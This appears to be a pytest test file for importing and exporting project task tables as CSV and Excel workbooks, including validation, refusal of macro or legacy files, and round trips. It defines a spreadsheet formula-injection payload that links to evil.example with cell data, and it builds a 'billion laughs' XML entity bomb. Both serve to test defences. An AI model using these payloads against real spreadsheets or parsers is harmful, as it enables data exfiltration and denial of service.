"""Task tables: reading CSV and Excel into import records, writing the plan back out, and the round trip."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal as D

import pytest
from hypothesis import given
from hypothesis import strategies as st

from civicadopt.conftest import Tenant
from civicadopt.planning import services
from civicadopt.planning.imports import TaskRecord, plan_replace
from civicadopt.planning.models import Dependency, Task
from civicadopt.planning.schedule import plan_schedule
from civicadopt.planning.tables import (
    CALCULATED,
    COLUMNS,
    TaskTableError,
    csv_from_plan,
    reading,
    records_from_csv,
    records_from_xlsx,
    xlsx_from_plan,
)
from civicadopt.planning.tables.columns import safe_text, unquote
from civicadopt.reports.formatting import printable

from .factories import make_plan

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def problems(content: bytes, *, xlsx: bool = False, **kwargs: object) -> list[str]:
    with pytest.raises(TaskTableError) as caught:
        (records_from_xlsx if xlsx else records_from_csv)(content, **kwargs)  # type: ignore[arg-type]
    return [str(error) for error in caught.value.errors]


def workbook(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


# --- Reading ------------------------------------------------------------------------------------------


def test_only_name_and_duration_are_needed() -> None:
    assert records_from_csv(b"name,duration\nDesign,5\nGo live,0\n") == [
        TaskRecord(name="Design", duration=D(5)),
        TaskRecord(name="Go live", duration=D(0)),
    ]


def test_every_column_in_any_order_and_case_with_other_tools_headings() -> None:
    # given Microsoft Project's headings for row, level and percent complete
    content = (
        b"Notes,ID,Name,Outline Level,DURATION,Optimistic,Most likely,Pessimistic,Predecessors,Milestone,"
        b"Constraint,Constraint_Date,Phase,Cost,Cost_per_day,% Complete,Actual_start,Actual_finish,Start\n"
        b"Kick-off,1,Build,1,0,,,,,no,,,,,,0,,,2027-01-04\n"
        b'"Two\nlines",2,Design,2,5 days,4,5,9,,No,SNET,2027-01-11,pilot,"1,250.50",$600,40%,2027-01-11,,\n'
        b",3,Ready,1,0d,,,,2FS+1.5;1SS,yes,FNLT,2027-03-01,,,,100,2027-02-01,2027-02-01,\n"
    )
    # when
    records = records_from_csv(content, phases=["Pilot"])
    # then
    assert records[1] == TaskRecord(
        name="Design", outline_level=2, duration=D(5), optimistic=D(4), most_likely=D(5), pessimistic=D(9),
        constraint="SNET", constraint_date=dt.date(2027, 1, 11), phase_name="pilot", cost=D("1250.50"),
        cost_per_day=D(600), percent_complete=40, actual_start=dt.date(2027, 1, 11), notes="Two\nlines",
    )  # fmt: skip
    assert records[2].milestone and records[2].constraint == "FNLT" and records[2].percent_complete == 100
    assert records[2].predecessors == [(2, "FS", D("1.5")), (1, "SS", D(0))]
    assert records[0].notes == "Kick-off"


@pytest.mark.parametrize(
    "encoded",
    [
        "\ufeffname,duration\nDéploiement à Montréal,5\n".encode(),  # Excel's "CSV UTF-8"
        "name,duration\nDéploiement à Montréal,5\n".encode("cp1252"),  # Excel's plain "CSV" on Windows
    ],
    ids=["utf-8 with BOM", "windows-1252"],
)
def test_utf8_with_a_byte_order_mark_and_windows_1252(encoded: bytes) -> None:
    assert records_from_csv(encoded)[0].name == "Déploiement à Montréal"


def test_semicolons_separate_columns_when_the_header_has_no_comma() -> None:
    records = records_from_csv(b'name;duration;predecessors\nA;1;\nB;2;1FS+2\nC;1;"1;2SS"\n', phases=[])
    assert [record.name for record in records] == ["A", "B", "C"]
    assert records[2].predecessors == [(1, "FS", D(0)), (2, "SS", D(0))]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("yes", True), ("TRUE", True), ("1", True), ("No", False), ("false", False), ("0", False), ("", False)],
)
def test_milestone_flags(cell: str, expected: bool) -> None:
    assert records_from_csv(f"name,duration,milestone\nM,0,{cell}\n".encode())[0].milestone is expected


def test_blank_rows_are_skipped_and_tasks_are_numbered_in_order() -> None:
    records = records_from_csv(b"row,name,duration,predecessors\n1,A,1,\n,,,\n2,B,1,1\n\n")
    assert [record.name for record in records] == ["A", "B"]
    assert records[1].predecessors == [(1, "FS", D(0))]


def test_every_problem_is_named_by_row_and_column_at_once() -> None:
    content = (
        b"row,name,level,duration,predecessors,milestone,constraint,cost,percent_complete,actual_start\n"
        b"1,Design,1,abc,,maybe,,12.345,101,\n"
        b"3,,3,5,9;x y,,ALAP,-4,,2027-02-30\n"
        b"3,Test,1,,3,,,,,\n"
    )
    assert problems(content) == [
        "row 2, column 'duration': “abc” is not a number of working days from 0 to 100,000",
        "row 2, column 'milestone': “maybe” must be yes or no",
        "row 2, column 'cost': “12.345” has more than two decimal places (cents)",
        "row 2, column 'percent_complete': “101” is not a whole number from 0 to 100",
        "row 3, column 'row': is 3, but this is task 2: tasks are numbered 1, 2, 3 … in order and predecessors "
        "refer to these numbers; renumber the column (and check the predecessors) or leave it empty",
        "row 3, column 'name': must not be empty",
        "row 3, column 'level': is 3, but can be at most 2: a task can only be indented one level below the "
        "task above it",
        "row 3, column 'predecessors': 'x y' is not a predecessor: write the task number, then optionally the "
        "link type and lag, for example 3, 3FS+2, 4SS, 5FF-1 or 2SF.",
        "row 3, column 'constraint': “alap” must be SNET (start no earlier than), FNLT (finish no later than) "
        "or empty",
        "row 3, column 'cost': “-4” is not an amount from 0 to 100,000,000,000,000",
        "row 3, column 'actual_start': “2027-02-30” is not a date: write it as YYYY-MM-DD, for example 2027-01-04",
        "row 4, column 'duration': must not be empty (0 for a milestone)",
        "row 4, column 'predecessors': a task cannot be its own predecessor",
    ]


def test_predecessors_must_name_tasks_of_the_file() -> None:
    assert problems(b"name,duration,predecessors\nA,1,\nB,1,7;A1\nC,1,1FS+0.125\n") == [
        "row 3, column 'predecessors': there is no task 7: the file has 3 tasks",
        "row 3, column 'predecessors': “A1” is not a task number",
        "row 4, column 'predecessors': the lag after task 1 must be at most 100,000 working days, to two "
        "decimal places",
    ]


def test_the_rules_of_a_task_are_checked_against_row_and_column() -> None:
    content = (
        b"name,duration,milestone,optimistic,most_likely,pessimistic,constraint,constraint_date,"
        b"actual_start,actual_finish\n"
        b"M,2,yes,,,,SNET,,,2027-01-04\n"
        b"E,5,,6,5,,,2027-01-04,2027-01-05,2027-01-04\n"
        b"F,5,,6,5,9,,,,\n"
    )
    assert problems(content) == [
        "row 2, column 'duration': a milestone takes no time: set the duration to 0",
        "row 2, column 'constraint_date': a date constraint needs both its kind and its date",
        "row 2, column 'actual_start': an actual finish needs an actual start",
        "row 3, column 'pessimistic': give all three estimates (optimistic, most likely, pessimistic) or none",
        "row 3, column 'constraint_date': a date constraint needs both its kind and its date",
        "row 3, column 'actual_finish': must be on or after the actual start",
        "row 4, column 'most_likely': the estimates must be in order: optimistic ≤ most likely ≤ pessimistic",
    ]


def test_the_header_must_name_known_columns_once_with_name_and_duration() -> None:
    assert problems(b"Name,durration,name\nA,1,A\n") == [
        "row 1 (the header), column 'durration': unknown column (expected: " + ", ".join(COLUMNS) + ")",
        "row 1 (the header), column 'name': this column appears twice",
        "row 1 (the header), column 'duration': this column is required",
    ]


def test_a_phase_must_be_one_of_the_initiative() -> None:
    assert records_from_csv(b"name,duration,phase\nA,1,PILOT\n", phases=["Pilot"])[0].phase_name == "PILOT"
    assert problems(b"name,duration,phase\nA,1,Wave 9\n", phases=["Pilot"]) == [
        "row 2, column 'phase': there is no phase named “Wave 9” in this initiative"
    ]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "The file is empty."),
        (b"\n\n", "The file is empty: its first row must name the columns."),
        (b"name,duration\n", "The file has a header but no tasks."),
        (b'name,duration\n"Design,5\n', "row 2: the file is not valid CSV (unexpected end of data)"),
        (b'name,duration\n"Design"x,5\n', "row 2: the file is not valid CSV (',' expected after '\"')"),
        (b"name,duration\nA,1,extra\n", "row 2: a cell lies outside the named columns"),
        (b"PK\x03\x04rest", "The file is not CSV text: it looks like a workbook or another binary file."),
        (
            b"name,duration\nA\x81\x8d,1\n\xff",
            "The file is not text in UTF-8 or Windows-1252: save it as “CSV UTF-8”.",
        ),
    ],
    ids=[
        "empty",
        "blank",
        "no tasks",
        "unclosed quote",
        "stray quote",
        "extra cell",
        "binary",
        "undecodable",
    ],
)
def test_files_that_are_not_task_tables(content: bytes, expected: str) -> None:
    assert problems(content) == [expected]


def test_limits_on_size_rows_and_reported_problems() -> None:
    assert problems(b"name,duration\n" + b"A" * (5 * 1024 * 1024)) == ["The file is larger than 5 MB."]
    many = b"name,duration\n" + b"A,1\n" * 5001
    assert problems(many) == ["row 5002: a plan can have at most 5,000 tasks"]
    assert len(problems(b"name,duration\n" + b",x\n" * 200)) == 50


# --- Reading Excel ------------------------------------------------------------------------------------


def test_excel_cells_of_every_type() -> None:
    content = workbook([
        ["Name", "Duration", "Level", "Milestone", "Constraint", "Constraint date", "Cost", "Predecessors"],
        ["Design", 7.5, 1, False, "SNET", dt.datetime(2027, 1, 11), 1250.5, None],
        ["'=not a formula", 0, 1, True, None, None, 20000, "1FS+2"],
        [None, None, None, None, None, None, None, None],
    ])  # fmt: skip
    records = records_from_xlsx(content)
    assert records == [
        TaskRecord(name="Design", duration=D("7.5"), constraint="SNET", constraint_date=dt.date(2027, 1, 11),
                   cost=D("1250.5")),
        TaskRecord(name="=not a formula", milestone=True, cost=D(20000), predecessors=[(1, "FS", D(2))]),
    ]  # fmt: skip


def test_excel_problems_are_named_by_row_and_column_too() -> None:
    content = workbook([["name", "duration"], ["A", "five"], ["B", -1]])
    assert problems(content, xlsx=True) == [
        "row 2, column 'duration': “five” is not a number of working days from 0 to 100,000",
        "row 3, column 'duration': “-1” is not a number of working days from 0 to 100,000",
    ]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"name,duration\nA,1\n", "The file is not an Excel workbook (.xlsx)."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "This is an Excel 97-2003 workbook (.xls), a "
         "password-protected workbook or another older Office file: save it as an Excel Workbook (.xlsx) "
         "without a password."),
        (zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
         "This is a Word document, not an Excel workbook: choose the .xlsx file of the plan."),
        (zipped({"xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": b"\0"}),
         "The workbook contains macros, which are not accepted: save it as an Excel Workbook (.xlsx), "
         "without macros."),
        (zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
         "This is an OpenDocument file: save it as an Excel Workbook (.xlsx) first."),
        (zipped({"xl/workbook.xml": b"<workbook/>"}), "The file is not a readable Excel workbook (.xlsx)."),
    ],
    ids=["csv", "xls", "docx", "xlsm", "ods", "damaged"],
)  # fmt: skip
def test_files_that_are_not_plain_workbooks_are_refused_saying_what_they_are(
    content: bytes, expected: str
) -> None:
    assert problems(content, xlsx=True) == [expected]


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_opened(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(reading, "MAX_UNPACKED", 1000)
    content = zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b" " * 2000})
    assert problems(content, xlsx=True) == [
        "The workbook unpacks to more than 0 MB, which is too large to import."
    ]


def test_entities_in_a_workbook_are_refused() -> None:
    # given a worksheet that declares the "billion laughs" entities and uses them in a cell
    good = zipfile.ZipFile(io.BytesIO(workbook([["name", "duration"], ["A", 1]])))
    parts = {name: good.read(name) for name in good.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"<t>A</t>", b"<t>&lol9;</t>")
    laughs = b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"".join(b"&lol%d;" % (n - 1) for _ in range(10))) for n in range(1, 10)
    )
    parts["xl/worksheets/sheet1.xml"] = b'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">' + laughs + b"]>" + sheet
    # then
    assert problems(zipped(parts), xlsx=True) == ["The file is not a readable Excel workbook (.xlsx)."]


# --- Formula-like text --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("'=x", "''=x"), ("Design", "Design"),
     ("it's", "it's"), ("\x01=x", "'=x")],
)  # fmt: skip
def test_formula_like_text_gets_an_apostrophe(text: str, written: str) -> None:
    assert safe_text(text) == written


@given(st.text())
def test_the_apostrophe_comes_off_again(text: str) -> None:
    assert unquote(safe_text(text)) == printable(text)


# --- Writing and the round trip -----------------------------------------------------------------------


@pytest.fixture
def plan(tenant_a: Tenant):  # type: ignore[no-untyped-def]
    """The factory plan, with a phase, a constraint, progress, hostile text and an exact large lag."""
    made = make_plan(tenant_a)
    admin = tenant_a.users["admin"]
    design, test = made["design"], made["test"]
    Task.objects.filter(pk=design.pk).update(
        phase=tenant_a.initiative.phases.get(), name=HOSTILE, notes="-- first line\n@second",
        actual_start=dt.date(2027, 1, 4), percent_complete=40,
    )  # fmt: skip
    Task.objects.filter(pk=test.pk).update(constraint="FNLT", constraint_date=dt.date(2027, 6, 30))
    review = services.task_create(
        user=admin, plan=made["plan"], data={"name": "+Review", "duration": D("2.25")}
    )
    # Stored directly: services.task_create reads a typed lag through a float and refuses 12345.67.
    Dependency.objects.create(predecessor=test, successor=review, lag=D("12345.67"))
    return made["plan"]


def snapshot(plan) -> tuple[list[tuple[object, ...]], list[tuple[object, ...]]]:  # type: ignore[no-untyped-def]
    fields = ["row", "name", "outline_level", "duration", "optimistic", "most_likely", "pessimistic",
              "milestone", "constraint", "constraint_date", "phase_id", "cost", "cost_per_day",
              "percent_complete", "actual_start", "actual_finish", "notes"]  # fmt: skip
    tasks = list(Task.objects.filter(plan=plan).order_by("row").values_list(*fields))
    links = list(
        Dependency.objects.filter(successor__plan=plan)
        .order_by("successor__row", "predecessor__row")
        .values_list("predecessor__row", "successor__row", "type", "lag")
    )
    return tasks, links


def test_csv_export_has_the_columns_the_computed_dates_and_exact_numbers(plan) -> None:  # type: ignore[no-untyped-def]
    content = csv_from_plan(plan, plan_schedule(plan))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert list(rows[0]) == [*COLUMNS, *CALCULATED]
    assert [row["predecessors"] for row in rows] == ["", "", "2", "3SS+5", "3;4FF", "4FS+12345.67"]
    assert rows[1]["name"] == "'" + HOSTILE and rows[1]["notes"] == "'-- first line\n@second"
    assert (rows[1]["duration"], rows[1]["cost_per_day"], rows[1]["phase"]) == ("5", "600", "Pilot")
    assert (rows[0]["start"], rows[0]["critical"]) == ("2027-01-04", "yes")
    assert rows[3]["constraint"] == "FNLT" and rows[3]["constraint_date"] == "2027-06-30"


def test_xlsx_export_writes_numbers_as_numbers_and_neutralises_formulas(plan) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx_from_plan(plan, plan_schedule(plan)))).active
    header = [cell.value for cell in sheet[1]]
    design = dict(zip(header, list(sheet[3]), strict=True))
    assert header == [*COLUMNS, *CALCULATED]
    assert design["name"].value == "'" + HOSTILE and design["name"].data_type == "s"
    assert design["duration"].value == 5 and design["cost_per_day"].value == 600
    assert design["actual_start"].value == dt.datetime(2027, 1, 4)
    assert design["actual_start"].number_format == "yyyy-mm-dd"
    assert sheet["D7"].value == 2.25
    with zipfile.ZipFile(io.BytesIO(xlsx_from_plan(plan, plan_schedule(plan)))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # not a single formula


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_table_goes_out_and_comes_back_unchanged(fmt: str, plan, tenant_a: Tenant) -> None:  # type: ignore[no-untyped-def]
    # given
    before = snapshot(plan)
    write, read = (csv_from_plan, records_from_csv) if fmt == "csv" else (xlsx_from_plan, records_from_xlsx)
    # when
    records = read(write(plan, plan_schedule(plan)), phases=["Pilot"])
    plan_replace(user=tenant_a.users["editor"], plan=plan, records=records, source=f"plan.{fmt}")
    # then
    assert snapshot(plan) == before
    assert before[0][1][1] == HOSTILE and (4, 6, "FS", D("12345.67")) in before[1]
